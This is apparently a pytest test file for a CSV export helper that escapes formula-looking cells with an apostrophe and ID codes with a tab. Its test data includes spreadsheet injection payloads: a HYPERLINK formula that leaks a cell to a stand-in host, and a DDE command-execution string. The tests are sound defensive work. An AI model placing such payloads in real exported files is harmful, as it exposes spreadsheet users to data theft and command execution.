"""CSV cells a spreadsheet shows as written: formula-looking text behind an apostrophe, codes
behind a tab, numbers left alone (models/exporting/csv_cells.py)."""
from __future__ import annotations

import csv
import zipfile
from datetime import date
from pathlib import Path

import pytest

from models.exporting.csv_cells import csv_text, looks_like_a_formula
from models.exporting.files import write_rows

RUN = ['=HYPERLINK("http://x/?"&C2,"点击")', "=cmd|' /C calc'!A0", "@SUM(A1:A9)", "+1+1",
       "-2+3", "\t=1+1", "\r=1+1", "\n@SUM(1)", "  =1+1", "\u3000=1+1", "＝1+1", "－1"]
PLAIN = ["张伟", "欧阳·娜娜", "门 301", "1栋2单元301", "a=b", "张-1", " 张伟", "", "'引号"]


@pytest.mark.parametrize("text", RUN)
def test_what_a_spreadsheet_would_run_goes_behind_an_apostrophe(text: str) -> None:
    assert looks_like_a_formula(text)
    assert csv_text(text) == "'" + text
    assert csv_text(text, code=True) == "'" + text   # a sign is never hidden behind a tab


@pytest.mark.parametrize("text", PLAIN)
def test_ordinary_text_is_written_as_typed(text: str) -> None:
    assert not looks_like_a_formula(text)
    assert csv_text(text) == text


def test_codes_go_behind_a_tab_whatever_their_digits() -> None:
    """The column decides, not the digits: a masked ID is prefixed like a full one."""
    for code in ("420102198001011234", "42010219800101123X", "420102********1234",
                 "13800000000", "0301"):
        assert csv_text(code, code=True) == "\t" + code
        assert csv_text(code) == code
    assert csv_text("", code=True) == ""


def test_a_written_file_neutralises_every_text_cell_and_keeps_numbers(tmp_path: Path) -> None:
    """Names, addresses, notes, community names and headings alike: every text cell of every
    column passes the rule, and a real negative number stays a number."""
    path = tmp_path / "list.csv"
    rows = [["=1+1", "420102198001011234", -5, -2.5, date(2020, 2, 20), "@备注", None],
            ["张伟", None, 0, 1.5, None, "-", "+86 138"]]
    write_rows(path, "清单", ["-姓名", "身份证号", "n", "x", "d", "备注", "电话"], iter(rows),
               codes=[1, 6])
    with path.open(encoding="utf-8-sig", newline="") as handle:
        read = list(csv.reader(handle))
    assert read == [
        ["'-姓名", "身份证号", "n", "x", "d", "备注", "电话"],
        ["'=1+1", "\t420102198001011234", "-5", "-2.5", "2020-02-20", "'@备注", ""],
        ["张伟", "", "0", "1.5", "", "'-", "'+86 138"]]


def test_an_xlsx_needs_no_prefix(tmp_path: Path) -> None:
    """.xlsx cells are typed: the formula-looking name is an inline string as written."""
    path = tmp_path / "list.xlsx"
    write_rows(path, "清单", ["姓名", "身份证号"], iter([["=1+1", "420102198001011234"]]),
               codes=[1])
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and ">=1+1</t>" in sheet and ">420102198001011234</t>" in sheet
